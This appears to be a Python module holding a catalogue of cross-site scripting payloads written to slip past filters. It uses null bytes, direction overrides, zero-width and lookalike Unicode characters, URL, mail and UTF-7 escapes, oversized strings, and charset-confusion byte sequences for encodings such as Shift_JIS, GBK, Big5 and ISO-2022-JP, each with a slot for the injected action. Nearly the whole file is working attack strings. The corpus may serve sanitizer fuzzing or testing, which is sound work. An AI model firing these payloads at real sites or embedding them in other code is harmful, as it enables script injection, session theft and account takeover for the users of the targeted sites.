"""Spellings: the same words in other letters, bytes and alphabets, past whoever looks for the plain ones.

Some act only where the page is read as another alphabet; they say which. Some act nowhere that we know, and wait for a reader that
folds, drops or decodes once too often.
"""

# ruff: noqa: E501 - a payload is one text
from __future__ import annotations

_PLAIN = {
    "a zero within a name": "<scr\x00ipt>{do}</script>",
    "a zero before a name": "<\x00script>{do}</script>",
    "a zero within a handler": "<img src=x one\x00rror={do}>",
    "a zero before a handler": "<img src=x \x00onerror={do}>",
    "a zero within an address": "<a href='java\x00script:{do}'>x</a>",
    "an override of direction": "<\u202escript>{do}</script>",
    "an override of direction in a name": "invoice\u202efdp.<img src=x onerror={do}>",
    "a mark of byte order": "\ufeff<script>{do}</script>",
    "a mark of byte order within": "<img src=x on\ufefferror={do}>",
    "a space of no width": "<img src=x on\u200berror={do}>",
    "a soft hyphen": "<img src=x on\u00aderror={do}>",
    "an odd space between attributes": "<img\u3000src=x\u3000onerror={do}>",
    "a vertical tab between attributes": "<img\x0bsrc=x\x0bonerror={do}>",
    "a form feed between attributes": "<img\x0csrc=x\x0conerror={do}>",
    "a next line between attributes": "<img\x85src=x\x85onerror={do}>",
    "an escape of a terminal": "\x1b[2J\x1b]0;x\x07<img src=x onerror={do}>",
    "wide angles": "\uff1cscript\uff1e{do}\uff1c/script\uff1e",
    "small angles": "\ufe64script\ufe65{do}\ufe64/script\ufe65",
    "pointed quotes": "\u2039script\u203a{do}\u2039/script\u203a",
    "a long s": "<\u017fcript>{do}</\u017fcript>",
    "a dotless i": "<scr\u0131pt>{do}</scr\u0131pt>",
    "a sign for kelvin": "<lin\u212a rel=stylesheet href={far}>",
    "a wide letter": "<\uff53cript>{do}</script>",
    "a letter in pieces": "<s\u0301cript>{do}</script>",
    "a mathematical alphabet": "<\U0001d4c8\U0001d4b8\U0001d4c7\U0001d4be\U0001d4c5\U0001d4c9>{do}</script>",
    "letters of tags": "\U000e0001\U000e003cscript\U000e003e<img src=x onerror={do}>",
    "escapes of a script": "\\u003cscript\\u003e{do}\\u003c/script\\u003e",
    "short escapes of a script": "\\x3cscript\\x3e{do}\\x3c/script\\x3e",
    "escapes of a style": "\\3cscript\\3e {do}\\3c/script\\3e",
    "escapes of an address": "%3Cscript%3E{do}%3C/script%3E",
    "escapes of an address twice": "%253Cscript%253E{do}%253C/script%253E",
    "escapes of a wide address": "%u003Cscript%u003E{do}%u003C/script%u003E",
    "escapes of quoted mail": "=3Cscript=3E{do}=3C/script=3E",
    "escapes of a name in mail": "=?utf-8?Q?=3Cscript=3E{do}=3C/script=3E?=",
    "escapes of a name in mail in base64": "=?utf-8?B?PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==?= {do}",
    "seven bits": "+ADw-script+AD4-{do}+ADw-/script+AD4-",
    "entities without ends": "&ltscript&gt{do}&lt/script&gt",
    "entities of zero": "<img src=x onerror=&#0;{do}>",
    "entities beyond all": "<img src=x onerror='&#x110000;' onerror={do}><img src=x onerror={do}>",
    "a text that is too long": "<img alt='" + "a" * 20_000 + "' src=x onerror={do}>",
    "a line that is too long": "b" * 30_000 + "<img src=x onerror={do}>",
}
PLAIN = dict(_PLAIN)
CHARSETS = {
    "two alphabets, and a backslash that is none": (
        "iso-2022-jp",
        b'<script>var x="\x1b(J\\\\";{do}//"</script>',
    ),
    "two alphabets, and a quote that is eaten": (
        "iso-2022-jp",
        b'<img alt="\x1b$B"><p title="\x1b(B><img src=x onerror={do}>">',
    ),
    "a byte that eats a quote": ("shift_jis", b'<p title="\x83">x</p title="><img src=x onerror={do}>">'),
    "a byte that eats an angle": ("gbk", b"<p title='\x81'><img src=x onerror={do}>"),
    "a byte that eats a backslash": ("big5", b"<script>var x='\xa5\\';{do}//'</script>"),
    "two bytes a letter": ("utf-16le", "<script>{do}</script>".encode("utf-16le")),
    "two bytes a letter, the other way": ("utf-16be", "<script>{do}</script>".encode("utf-16be")),
    "two bytes a letter that say so": ("utf-16", b"\xff\xfe" + "<script>{do}</script>".encode("utf-16le")),
    "letters of a great machine": ("cp037", "<script>{do}</script>".encode("cp037")),
    "seven bits": ("utf-7", b"+ADw-script+AD4-{do}+ADw-/script+AD4-"),
    "bytes that are too long for their letter": ("utf-8", b"\xc0\xbcscript\xc0\xbe{do}\xc0\xbc/script\xc0\xbe"),
    "bytes that end too soon": ("utf-8", b"<p title='\xe0'><img src=x onerror={do}>"),
    "an alphabet nobody knows": ("x-user-defined", b"<script>{do}</script>\xbc"),
    "an alphabet that changes on the way": ("us-ascii", b"<meta charset=utf-7><script>{do}</script>"),
    "an alphabet of Chinese in seven bits": ("hz-gb-2312", b"~{<script>~}{do}<img src=x onerror={do}>"),
}
"""Each with the alphabet it says it is in, and its bytes."""
